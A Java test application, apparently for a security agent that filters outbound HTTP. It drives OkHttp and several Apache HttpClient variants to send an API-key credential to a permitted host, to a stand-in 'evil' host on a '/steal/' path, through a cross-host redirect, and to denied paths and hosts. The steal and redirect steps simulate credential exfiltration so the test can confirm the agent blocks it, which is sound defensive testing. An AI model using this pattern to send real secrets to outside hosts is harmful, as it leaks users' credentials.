package dev.faramesh.it.frameworks.http;

import dev.faramesh.it.frameworks.Calls;
import java.util.ArrayList;
import java.util.List;

/**
 * An application calling HTTP services through OkHttp and Apache HttpClient (4 classic and 5
 * classic), whichever of them are on its class path: each client sends the application's
 * credential (read from {@code OPENAI_API_KEY}, so a placeholder under the agent) in a header and
 * in the query to the host the credential belongs to (plain and TLS), to a host it does not belong
 * to, through a redirect from the one to the other, to a denied path and to a denied host, and
 * finally once more to the permitted host to show it went on after the denials. Each step prints
 * {@code RESULT <client>-<step> status=<code>} or {@code RESULT <client>-<step> threw class=<exception> <message>}.
 *
 * <p>{@code apacheasync5} is HttpClient 5's async client: {@code status=} means both the returned
 * {@code Future} and the {@code FutureCallback} completed with that response, {@code threw} that
 * the future failed and the callback's {@code failed} received the very same exception.
 *
 * <p>{@code apacheminimal5} and {@code apacheh2minimal5} are its minimal clients, {@code apacheasync4} and
 * {@code apacheminimal4} Apache HttpAsyncClient 4.1's default and minimal clients, {@code apachepipelining4} its
 * pipelining client (each call a pipeline of one request; plus pipelines of three; its producer steps use its
 * non-pipelined {@code execute}), reported the same way.
 *
 * <p>Arguments: the clients to use ({@code okhttp,apache4,apache5,apacheasync5,apacheminimal5,apacheh2minimal5,apacheasync4,apacheminimal4,apachepipelining4}),
 * the permitted host's plain and TLS base URLs, the other host's plain base URL, the denied host's plain base
 * URL, and (optional) the denied host's plain and TLS base URLs on a sink that answers nothing.
 */
public final class HttpClientsApp {

  private HttpClientsApp() {}

  public static void main(String[] args) {
    Calls.exiting(() -> run(args));
  }

  private static void run(String[] args) throws Exception {
    String allowed = args[1];
    String allowedTls = args[2];
    String evil = args[3];
    String blocked = args[4];
    String sink = args.length > 5 ? args[5] : blocked;
    String sinkTls = args.length > 6 ? args[6] : blocked;
    String key = System.getenv("OPENAI_API_KEY");
    for (String name : args[0].split(",")) {
      Client client = switch (name) {
        case "okhttp" -> new OkHttp();
        case "apache4" -> new Apache4();
        case "apache5" -> new Apache5();
        case "apacheasync5" -> new Apache5Async();
        case "apacheasync4" -> new Apache4Async(org.apache.http.impl.nio.client.HttpAsyncClients.createDefault());
        case "apacheminimal4" -> new Apache4Minimal();
        case "apachepipelining4" -> new Apache4Pipelining();
        case "apacheminimal5" -> new Apache5Minimal(
            org.apache.hc.client5.http.impl.async.HttpAsyncClients.createMinimal());
        case "apacheh2minimal5" -> new Apache5Minimal(
            org.apache.hc.client5.http.impl.async.HttpAsyncClients.createHttp2Minimal());
        default -> throw new IllegalArgumentException(name);
      };
      String q = "?key=" + key + "&v=1";
      step(client, name, "allowed", allowed + "/v1/" + name + q, key);
      step(client, name, "allowed-tls", allowedTls + "/v1/" + name + "-tls" + q, key);
      step(client, name, "steal", evil + "/steal/" + name + q, key);
      // x-api-key only: Apache HttpClient 5.4+ itself refuses to follow a redirect to another
      // authority when the request carries Authorization
      step(client, name, "redirect", allowed + "/redirect?to=" + evil + "/landing/" + name, List.of("x-api-key", key));
      step(client, name, "forbidden", allowed + "/forbidden/" + name, key);
      step(client, name, "blocked", blocked + "/never/" + name, key);
      step(client, name, "after", allowed + "/after/" + name, key);
      if (client instanceof OkHttp ok) {
        // enqueue: the call runs on OkHttp's dispatcher thread, a denial arrives in onFailure
        step(ok.async(), name, "async-allowed", allowed + "/v1/" + name + "-async" + q, key);
        step(ok.async(), name, "async-blocked", blocked + "/never/" + name + "-async", key);
      }
      if (client instanceof Apache5Minimal m && m.leases()) {
        // lease an endpoint (the connection is open before the request is known), then execute on it
        step(m.leased(), name, "lease-allowed", allowed + "/v1/" + name + "-lease" + q, key);
        step(m.leased(), name, "lease-forbidden", allowed + "/forbidden/" + name + "-lease", key);
        // a sink that records connections and bytes: only the TCP (and TLS) handshake may reach it
        step(m.leased(), name, "lease-blocked", sink + "/never/" + name + "-lease", key);
        step(m.leased(), name, "lease-blocked-tls", sinkTls + "/never/" + name + "-lease", key);
        step(m.leased(), name, "lease-after", allowed + "/after/" + name + "-lease", key);
      }
      if (client instanceof Apache4Async a) {
        // the HttpAsyncRequestProducer / HttpAsyncResponseConsumer form of execute
        step(a.producer(), name, "producer-allowed", allowed + "/v1/" + name + "-producer" + q, key);
        step(a.producer(), name, "producer-blocked", blocked + "/never/" + name + "-producer", key);
      }
      if (client instanceof Apache4Pipelining p) {
        // three requests in one pipeline on one connection: all permitted; then one denied among permitted ones
        step(p.pipeline(), name, "pipeline-allowed", allowed + "/v1/" + name + "-pipe-1" + q + " " + allowed + "/v1/"
            + name + "-pipe-2" + q + " " + allowed + "/v1/" + name + "-pipe-3" + q, key);
        step(p.pipeline(), name, "pipeline-denied", allowed + "/v1/" + name + "-pipedeny-1" + q + " " + allowed
            + "/forbidden/" + name + "-pipedeny-2 " + allowed + "/v1/" + name + "-pipedeny-3" + q, key);
        step(p.pipeline(), name, "pipeline-after", allowed + "/v1/" + name + "-pipeafter" + q, key);
      }
      if (client instanceof Apache5Async a) {
        // the AsyncRequestProducer / AsyncResponseConsumer form of execute
        step(a.producer(), name, "producer-allowed", allowed + "/v1/" + name + "-producer" + q, key);
        step(a.producer(), name, "producer-blocked", blocked + "/never/" + name + "-producer", key);
      }
    }
    System.out.println("APP DONE");
  }

  private static void step(Client client, String name, String step, String url, String key) {
    step(client, name, step, url, List.of("Authorization", "Bearer " + key, "x-api-key", key));
  }

  private static void step(Client client, String name, String step, String url, List<String> headers) {
    String out;
    try {
      out = "status=" + client.get(url, headers);
    } catch (Exception e) {
      out = "threw class=" + e.getClass().getName() + " " + e.getMessage();
    }
    System.out.println("RESULT " + name + "-" + step + " " + out);
  }

  interface Client {
    /** GET {@code url} with the headers (name, value, ...); the status code. */
    int get(String url, List<String> headers) throws Exception;
  }

  static final class OkHttp implements Client {
    private final okhttp3.OkHttpClient client = new okhttp3.OkHttpClient();

    @Override
    public int get(String url, List<String> headers) throws Exception {
      okhttp3.Request.Builder b = new okhttp3.Request.Builder().url(url);
      for (int i = 0; i < headers.size(); i += 2) {
        b.header(headers.get(i), headers.get(i + 1));
      }
      try (okhttp3.Response r = client.newCall(b.build()).execute()) {
        r.body().string();
        return r.code();
      }
    }

    /** The same GET through {@code enqueue}; the exception {@code onFailure} received is thrown. */
    Client async() {
      return (url, headers) -> {
        okhttp3.Request.Builder b = new okhttp3.Request.Builder().url(url);
        for (int i = 0; i < headers.size(); i += 2) {
          b.header(headers.get(i), headers.get(i + 1));
        }
        java.util.concurrent.CompletableFuture<Integer> done = new java.util.concurrent.CompletableFuture<>();
        client.newCall(b.build()).enqueue(new okhttp3.Callback() {
          @Override
          public void onFailure(okhttp3.Call call, java.io.IOException e) {
            done.completeExceptionally(e);
          }

          @Override
          public void onResponse(okhttp3.Call call, okhttp3.Response response) {
            try (response) {
              done.complete(response.code());
            }
          }
        });
        try {
          return done.get(30, java.util.concurrent.TimeUnit.SECONDS);
        } catch (java.util.concurrent.ExecutionException e) {
          throw (Exception) e.getCause();
        }
      };
    }
  }

  static final class Apache4 implements Client {
    private final org.apache.http.impl.client.CloseableHttpClient client =
        org.apache.http.impl.client.HttpClients.createDefault();

    @Override
    public int get(String url, List<String> headers) throws Exception {
      org.apache.http.client.methods.HttpGet get = new org.apache.http.client.methods.HttpGet(url);
      for (int i = 0; i < headers.size(); i += 2) {
        get.setHeader(headers.get(i), headers.get(i + 1));
      }
      try (org.apache.http.client.methods.CloseableHttpResponse r = client.execute(get)) {
        org.apache.http.util.EntityUtils.consume(r.getEntity());
        return r.getStatusLine().getStatusCode();
      }
    }
  }

  static final class Apache5 implements Client {
    private final org.apache.hc.client5.http.impl.classic.CloseableHttpClient client =
        org.apache.hc.client5.http.impl.classic.HttpClients.createDefault();

    @Override
    public int get(String url, List<String> headers) throws Exception {
      org.apache.hc.client5.http.classic.methods.HttpGet get = new org.apache.hc.client5.http.classic.methods.HttpGet(url);
      for (int i = 0; i < headers.size(); i += 2) {
        get.setHeader(headers.get(i), headers.get(i + 1));
      }
      List<Integer> code = new ArrayList<>();
      client.execute(get, response -> {
        org.apache.hc.core5.http.io.entity.EntityUtils.consume(response.getEntity());
        code.add(response.getCode());
        return null;
      });
      return code.get(0);
    }
  }

  static class Apache5Async implements Client {
    final org.apache.hc.client5.http.impl.async.CloseableHttpAsyncClient client;

    Apache5Async() {
      this(org.apache.hc.client5.http.impl.async.HttpAsyncClients.createDefault());
    }

    Apache5Async(org.apache.hc.client5.http.impl.async.CloseableHttpAsyncClient client) {
      this.client = client;
      client.start();
    }

    /** {@code execute(SimpleHttpRequest, FutureCallback)}. */
    @Override
    public int get(String url, List<String> headers) throws Exception {
      org.apache.hc.client5.http.async.methods.SimpleHttpRequest request =
          new org.apache.hc.client5.http.async.methods.SimpleHttpRequest("GET", java.net.URI.create(url));
      for (int i = 0; i < headers.size(); i += 2) {
        request.setHeader(headers.get(i), headers.get(i + 1));
      }
      Callback<org.apache.hc.client5.http.async.methods.SimpleHttpResponse> callback = new Callback<>();
      return settle(client.execute(request, callback), callback.heard, r -> r.getCode());
    }

    /** {@code execute(AsyncRequestProducer, AsyncResponseConsumer, FutureCallback)}. */
    Client producer() {
      return (url, headers) -> {
        org.apache.hc.core5.http.nio.support.AsyncRequestBuilder b =
            org.apache.hc.core5.http.nio.support.AsyncRequestBuilder.get(url);
        for (int i = 0; i < headers.size(); i += 2) {
          b.addHeader(headers.get(i), headers.get(i + 1));
        }
        Callback<org.apache.hc.core5.http.Message<org.apache.hc.core5.http.HttpResponse, String>> callback =
            new Callback<>();
        return settle(client.execute(b.build(), new org.apache.hc.core5.http.nio.support.BasicResponseConsumer<>(
            new org.apache.hc.core5.http.nio.entity.StringAsyncEntityConsumer()), callback), callback.heard,
            m -> m.getHead().getCode());
      };
    }

    /**
     * What {@code future} and the callback (which completed {@code callbackHeard}) reported: the
     * status code when both completed with the same response, the exception when the future failed
     * and the callback's {@code failed} got the very same one.
     */
    static <T> int settle(java.util.concurrent.Future<T> future, java.util.concurrent.CompletableFuture<Object> callbackHeard,
        java.util.function.ToIntFunction<T> code) throws Exception {
      Object heard = callbackHeard.get(30, java.util.concurrent.TimeUnit.SECONDS);
      T result;
      try {
        result = future.get(30, java.util.concurrent.TimeUnit.SECONDS);
      } catch (java.util.concurrent.ExecutionException e) {
        if (heard != e.getCause()) {
          throw new IllegalStateException("the future failed with " + e.getCause() + " but the callback heard " + heard);
        }
        throw (Exception) e.getCause();
      }
      if (heard != result) {
        throw new IllegalStateException("the future completed but the callback heard " + heard);
      }
      return code.applyAsInt(result);
    }

    /** Remembers what the client reported: the result, the exception, or "cancelled". */
    static final class Callback<T> implements org.apache.hc.core5.concurrent.FutureCallback<T> {
      final java.util.concurrent.CompletableFuture<Object> heard = new java.util.concurrent.CompletableFuture<>();

      @Override
      public void completed(T result) {
        heard.complete(result);
      }

      @Override
      public void failed(Exception ex) {
        heard.complete(ex);
      }

      @Override
      public void cancelled() {
        heard.complete("cancelled");
      }
    }
  }

  /**
   * HttpClient 5's minimal async clients ({@code createMinimal}, {@code createHttp2Minimal}), in both
   * {@code execute} forms. They follow no redirects: like an application using one, this client
   * follows a redirect itself, with a new request. {@code MinimalHttpAsyncClient} can also lease an
   * endpoint and execute on it ({@link #leased}).
   */
  static final class Apache5Minimal extends Apache5Async {

    Apache5Minimal(org.apache.hc.client5.http.impl.async.CloseableHttpAsyncClient client) {
      super(client);
    }

    boolean leases() {
      return client instanceof org.apache.hc.client5.http.impl.async.MinimalHttpAsyncClient;
    }

    @Override
    public int get(String url, List<String> headers) throws Exception {
      String next = url;
      for (int hops = 0; ; hops++) {
        int[] status = new int[1];
        String[] location = new String[1];
        org.apache.hc.client5.http.async.methods.SimpleHttpRequest request =
            new org.apache.hc.client5.http.async.methods.SimpleHttpRequest("GET", java.net.URI.create(next));
        for (int i = 0; i < headers.size(); i += 2) {
          request.setHeader(headers.get(i), headers.get(i + 1));
        }
        Callback<org.apache.hc.client5.http.async.methods.SimpleHttpResponse> callback = new Callback<>();
        settle(client.execute(request, callback), callback.heard, r -> {
          status[0] = r.getCode();
          org.apache.hc.core5.http.Header l = r.getFirstHeader("Location");
          location[0] = l == null ? null : l.getValue();
          return r.getCode();
        });
        if (status[0] / 100 != 3 || location[0] == null || hops == 5) {
          return status[0];
        }
        next = location[0];
      }
    }

    /** Lease an endpoint for the URL's host, execute the GET on it, discard the endpoint. */
    Client leased() {
      return (url, headers) -> {
        java.net.URI u = java.net.URI.create(url);
        org.apache.hc.core5.http.HttpHost host = new org.apache.hc.core5.http.HttpHost(u.getScheme(), u.getHost(), u.getPort());
        org.apache.hc.core5.http.nio.AsyncClientEndpoint endpoint =
            ((org.apache.hc.client5.http.impl.async.MinimalHttpAsyncClient) client).lease(host, null)
                .get(30, java.util.concurrent.TimeUnit.SECONDS);
        try {
          org.apache.hc.core5.http.nio.support.AsyncRequestBuilder b =
              org.apache.hc.core5.http.nio.support.AsyncRequestBuilder.get(url);
          for (int i = 0; i < headers.size(); i += 2) {
            b.addHeader(headers.get(i), headers.get(i + 1));
          }
          Callback<org.apache.hc.core5.http.Message<org.apache.hc.core5.http.HttpResponse, String>> callback =
              new Callback<>();
          return settle(endpoint.execute(b.build(), new org.apache.hc.core5.http.nio.support.BasicResponseConsumer<>(
              new org.apache.hc.core5.http.nio.entity.StringAsyncEntityConsumer()), callback), callback.heard,
              m -> m.getHead().getCode());
        } finally {
          endpoint.releaseAndDiscard();
        }
      };
    }
  }

  /**
   * Apache HttpAsyncClient 4.1 ({@code HttpAsyncClients.createDefault}), reported like
   * {@code apacheasync5}: {@code execute(HttpUriRequest, FutureCallback)} and the producer/consumer form.
   */
  static class Apache4Async implements Client {
    final org.apache.http.impl.nio.client.CloseableHttpAsyncClient client;

    Apache4Async(org.apache.http.impl.nio.client.CloseableHttpAsyncClient client) {
      this.client = client;
      client.start();
    }

    @Override
    public int get(String url, List<String> headers) throws Exception {
      org.apache.http.client.methods.HttpGet get = new org.apache.http.client.methods.HttpGet(url);
      for (int i = 0; i < headers.size(); i += 2) {
        get.setHeader(headers.get(i), headers.get(i + 1));
      }
      Callback4<org.apache.http.HttpResponse> callback = new Callback4<>();
      return Apache5Async.settle(client.execute(get, callback), callback.heard, r -> r.getStatusLine().getStatusCode());
    }

    /** {@code execute(HttpAsyncRequestProducer, HttpAsyncResponseConsumer, FutureCallback)}. */
    Client producer() {
      return (url, headers) -> {
        org.apache.http.client.methods.HttpGet get = new org.apache.http.client.methods.HttpGet(url);
        for (int i = 0; i < headers.size(); i += 2) {
          get.setHeader(headers.get(i), headers.get(i + 1));
        }
        Callback4<org.apache.http.HttpResponse> callback = new Callback4<>();
        return Apache5Async.settle(client.execute(org.apache.http.nio.client.methods.HttpAsyncMethods.create(get),
            org.apache.http.nio.client.methods.HttpAsyncMethods.createConsumer(), callback), callback.heard,
            r -> r.getStatusLine().getStatusCode());
      };
    }

    /** Remembers what the client reported: the result, the exception, or "cancelled". */
    static final class Callback4<T> implements org.apache.http.concurrent.FutureCallback<T> {
      final java.util.concurrent.CompletableFuture<Object> heard = new java.util.concurrent.CompletableFuture<>();

      @Override
      public void completed(T result) {
        heard.complete(result);
      }

      @Override
      public void failed(Exception ex) {
        heard.complete(ex);
      }

      @Override
      public void cancelled() {
        heard.complete("cancelled");
      }
    }
  }

  /**
   * HttpAsyncClient 4.1's minimal client ({@code HttpAsyncClients.createMinimal}), which follows no
   * redirects: like an application using it, this client follows a redirect itself, with a new request.
   */
  static class Apache4Minimal extends Apache4Async {

    Apache4Minimal() {
      this(org.apache.http.impl.nio.client.HttpAsyncClients.createMinimal());
    }

    Apache4Minimal(org.apache.http.impl.nio.client.CloseableHttpAsyncClient client) {
      super(client);
    }

    java.util.concurrent.Future<org.apache.http.HttpResponse> send(org.apache.http.client.methods.HttpGet get,
        Callback4<org.apache.http.HttpResponse> callback) throws Exception {
      return client.execute(get, callback);
    }

    @Override
    public int get(String url, List<String> headers) throws Exception {
      String next = url;
      for (int hops = 0; ; hops++) {
        org.apache.http.client.methods.HttpGet get = new org.apache.http.client.methods.HttpGet(next);
        for (int i = 0; i < headers.size(); i += 2) {
          get.setHeader(headers.get(i), headers.get(i + 1));
        }
        Callback4<org.apache.http.HttpResponse> callback = new Callback4<>();
        String[] location = new String[1];
        int status = Apache5Async.settle(send(get, callback), callback.heard, r -> {
          org.apache.http.Header l = r.getFirstHeader("Location");
          location[0] = l == null ? null : l.getValue();
          return r.getStatusLine().getStatusCode();
        });
        if (status / 100 != 3 || location[0] == null || hops == 5) {
          return status;
        }
        next = location[0];
      }
    }
  }

  /**
   * HttpAsyncClient 4.1's pipelining client ({@code HttpAsyncClients.createPipelining}): each call is
   * {@code execute(HttpHost, List<HttpRequest>, FutureCallback)} with a pipeline of one request; it
   * follows no redirects, so like {@link Apache4Minimal} this client follows them itself.
   */
  static final class Apache4Pipelining extends Apache4Minimal {

    Apache4Pipelining() {
      super(org.apache.http.impl.nio.client.HttpAsyncClients.createPipelining());
    }

    @Override
    java.util.concurrent.Future<org.apache.http.HttpResponse> send(org.apache.http.client.methods.HttpGet get,
        Callback4<org.apache.http.HttpResponse> callback) throws Exception {
      Callback4<List<org.apache.http.HttpResponse>> all = new Callback4<>();
      java.util.concurrent.Future<List<org.apache.http.HttpResponse>> f = pipelining().execute(
          org.apache.http.client.utils.URIUtils.extractHost(get.getURI()), List.of(get), all);
      all.heard.whenComplete((r, e) -> callback.heard.complete(r instanceof List<?> l ? l.get(0) : r));
      return new java.util.concurrent.CompletableFuture<org.apache.http.HttpResponse>() {
        @Override
        public org.apache.http.HttpResponse get(long timeout, java.util.concurrent.TimeUnit unit) throws
            InterruptedException, java.util.concurrent.ExecutionException, java.util.concurrent.TimeoutException {
          try {
            return f.get(timeout, unit).get(0);
          } catch (java.util.concurrent.ExecutionException e) {
            // the very exception the callback heard: settle compares them
            throw new java.util.concurrent.ExecutionException(e.getCause() == null ? e : e.getCause());
          }
        }
      };
    }

    private org.apache.http.impl.nio.client.CloseableHttpPipeliningClient pipelining() {
      return (org.apache.http.impl.nio.client.CloseableHttpPipeliningClient) client;
    }

    /** The URLs (space-separated, one host) as one pipeline: 200 when every response is 200. */
    Client pipeline() {
      return (urls, headers) -> {
        List<org.apache.http.HttpRequest> gets = new ArrayList<>();
        for (String url : urls.split(" ")) {
          org.apache.http.client.methods.HttpGet get = new org.apache.http.client.methods.HttpGet(url);
          for (int i = 0; i < headers.size(); i += 2) {
            get.setHeader(headers.get(i), headers.get(i + 1));
          }
          gets.add(get);
        }
        Callback4<List<org.apache.http.HttpResponse>> callback = new Callback4<>();
        return Apache5Async.settle(pipelining().execute(org.apache.http.client.utils.URIUtils.extractHost(
            java.net.URI.create(urls.split(" ")[0])), gets, callback), callback.heard, rs -> {
              int status = 200;
              for (org.apache.http.HttpResponse r : rs) {
                status = r.getStatusLine().getStatusCode() == 200 ? status : r.getStatusLine().getStatusCode();
              }
              return rs.size() == gets.size() ? status : -rs.size();
            });
      };
    }
  }
}
